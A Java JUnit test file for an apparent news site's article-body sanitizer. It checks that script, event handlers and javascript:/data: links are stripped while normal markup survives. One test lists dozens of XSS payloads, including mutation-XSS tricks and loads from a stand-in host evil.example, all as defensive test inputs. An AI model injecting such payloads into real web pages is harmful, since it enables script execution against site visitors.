package broadsheet.article.content;

import static org.assertj.core.api.Assertions.assertThat;

import broadsheet.article.content.Body.Format;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class BodyTests {

    private static final Set<String> TAGS = Set.of("h1", "p", "a", "img", "pre", "code", "table", "tbody", "tr", "td");
    private static final Set<String> HARMLESS = Set.of("href", "src", "title", "alt", "align", "colspan");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>attack()</script>",
                "<SCRIPT SRC=//evil.example/attack.js></SCRIPT>",
                "<scr<script>ipt>attack()</scr</script>ipt>",
                "<img src=x onerror=attack()>",
                "<img src=x onerror\n=\nattack()>",
                "<img/src=\"x\"/onerror=attack()>",
                "<body onload=attack()>",
                "<a href=\"javascript:attack()\">x</a>",
                "<a href=\" &#106;ava&#9;script:attack()\">x</a>",
                "<a href=\"jAvAsCrIpT&colon;attack()\">x</a>",
                "<a href=\"vbscript:attack\">x</a>",
                "<a href=\"data:text/html,<script>attack()</script>\">x</a>",
                "<img src=\"data:image/svg+xml,<svg onload=attack()>\">",
                "<img srcset=\"https://evil.example/attack 2x\">",
                "<svg><script>attack()</script></svg>",
                "<svg onload=attack()><a xlink:href=\"javascript:attack()\">x</a></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=attack()>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=attack()&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=attack()>\">",
                "<template><img src=x onerror=attack()></template>",
                "<p style=\"background:url(javascript:attack())\">x</p>",
                "<style>@import 'https://evil.example/attack.css'</style>",
                "<link rel=stylesheet href=https://evil.example/attack.css>",
                "<meta http-equiv=refresh content=\"0;url=javascript:attack()\">",
                "<base href=\"https://evil.example/attack/\">",
                "<iframe srcdoc=\"&lt;script&gt;attack()&lt;/script&gt;\"></iframe>",
                "<object data=\"data:text/html,attack\"></object>",
                "<embed src=\"javascript:attack()\">",
                "<form action=\"javascript:attack()\"><button formaction=\"javascript:attack()\">x</button></form>",
                "<details open ontoggle=attack()>x</details>",
                "<video><source onerror=attack()></video>",
                "<!--><img src=x onerror=attack()>-->",
                "<![CDATA[<img src=x onerror=attack()>]]>",
                "[x](javascript:attack())",
                "[x]( javascript:attack())",
                "![x](data:text/html;base64,attack)",
                "<javascript:attack()>",
                "[x]: javascript:attack()\n[x]"
            })
    void whatRunsNeverLeavesABody(String attack) {
        String text = "words\n\n" + attack + "\n\nfine";
        for (Format format : Format.values()) {
            Body body = Body.of(format, text);
            assertThat(body.html()).contains("words");
            // as a browser reads it
            for (Element element : Jsoup.parseBodyFragment(body.html()).body().select("* *")) {
                assertThat(element.tagName()).isIn(TAGS);
                assertThat(element.attributes()).allSatisfy(attribute -> {
                    assertThat(attribute.getKey()).isIn(HARMLESS);
                    if (!attribute.getKey().equals("title")) {
                        assertThat(attribute.getValue()).doesNotContain("script:", "data:");
                    }
                });
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<h2>Heading</h2>",
                "<p>A <a href=\"https://example.org/\" title=\"t\">link</a> and <a href=\"/news/x\">one of ours</a></p>",
                "<p><a href=\"#part\">here</a> <a href=\"mailto:a@example.org\">mail</a> <a href=\"tel:+4912\">call</a></p>",
                "<p><img src=\"https://example.org/a.jpg\" alt=\"A\" width=\"3\" height=\"2\" loading=\"lazy\"></p>",
                "<figure><img src=\"/media/a.jpg\"><figcaption>Caption</figcaption></figure>",
                "<table><thead><tr><th align=\"left\">a</th></tr></thead><tbody><tr><td colspan=\"2\">b</td></tr></tbody></table>",
                "<blockquote cite=\"https://example.org/\"><p>q</p></blockquote>",
                "<ol start=\"3\"><li>three</li></ol>",
                "<pre><code>a &lt; b</code></pre>",
                "<p><del>old</del> <ins>new</ins> <mark>m</mark> <s>s</s> H<sub>2</sub>O <time datetime=\"2026\">now</time></p>"
            })
    void whatABodyNeedsStays(String html) {
        assertThat(Body.of(Format.HTML, html).html()).isEqualTo(html);
    }

    @Test
    void ourPicturesGetTheirSizes() {
        String id = "0123456789abcdef".repeat(4);
        String path = "/media/" + id + "/";
        var pictures = Map.of(
                id,
                new ResponsiveImages.Picture(
                        2000,
                        1000,
                        List.of(
                                new ResponsiveImages.File(path + "320.webp", 320),
                                new ResponsiveImages.File(path + "2000.jpg", 2000))));
        String image = "<img src=\"" + path + "2000.jpg\" alt=\"A\" width=\"2000\" height=\"1000\" loading=\"lazy\""
                + " srcset=\"" + path + "320.webp 320w, " + path + "2000.jpg 2000w\""
                + " sizes=\"(max-width: 44rem) calc(100vw - 2rem), 42rem\">";
        Body shown = Body.of(Format.MARKDOWN, "![A](" + path + "2000.jpg)\n\n![B](https://example.org/b.jpg)")
                .showing(pictures);
        assertThat(shown.html())
                .isEqualTo("<p>" + image + "</p>\n<p><img src=\"https://example.org/b.jpg\" alt=\"B\"></p>\n");
        assertThat(shown.safe()).isEqualTo(shown);
        assertThat(Body.of(Format.HTML, image).showing(pictures).html()).isEqualTo(image);
        String chosen = "<img src=\"" + path + "2000.jpg\" width=\"200\" loading=\"eager\">";
        assertThat(Body.of(Format.HTML, chosen).showing(pictures).html())
                .contains("width=\"200\" loading=\"eager\" srcset=")
                .doesNotContain("height", "lazy");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.example/attack 2x",
                "/media/x/1.jpg 1w",
                "/media/%s/1.svg 1w",
                "/media/%s/1.jpg 1w, https://evil.example/attack 2w",
                "/media/%s/1.jpg 1w,",
                "//media/%s/1.jpg 1w"
            })
    void whatNamesOtherFilesNeverStays(String srcset) {
        String html = "<img src=\"/x.jpg\" srcset=\"" + srcset.formatted("0".repeat(64)) + "\" sizes=\"1px\">";
        assertThat(Body.of(Format.HTML, html).html()).isEqualTo("<img src=\"/x.jpg\">");
    }

    @Test
    void aBodyThatBecomesTooLongStaysAsItIs() {
        String id = "0".repeat(64);
        String path = "/media/" + id + "/1.jpg";
        var pictures = Map.of(
                id, new ResponsiveImages.Picture(1, 1, Collections.nCopies(32, new ResponsiveImages.File(path, 1))));
        Body body = Body.of(Format.HTML, ("<img src=\"" + path + "\">").repeat(30_000));
        assertThat(body.showing(pictures)).isEqualTo(body);
    }

    @Test
    void markdownTablesAndFiguresStay() {
        assertThat(Body.of(Format.MARKDOWN, "| a | b |\n|:--|--:|\n| 1 | 2 |").html())
                .contains("<th align=\"left\">a</th>", "<td align=\"right\">2</td>");
    }

    @Test
    void whatLiesInTheStoreIsMadeSafeOnItsWayOutAsWell() {
        var old = new Body(Format.HTML, "x", "<p onclick=\"attack()\">x</p>");
        assertThat(old.safe().html()).isEqualTo("<p>x</p>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "> ", "* ", "[", "![", "*a **b ", "<div>", "<b>", "`a", "<!--", "&", "](", "\\\\", "\u0000", "1. "
            })
    void noTextIsTooDeepToBeRead(String part) {
        String text = part.repeat(200_000 / part.length());
        for (Format format : Format.values()) {
            assertThat(Body.of(format, text).safe().html()).isNotNull();
        }
    }
}
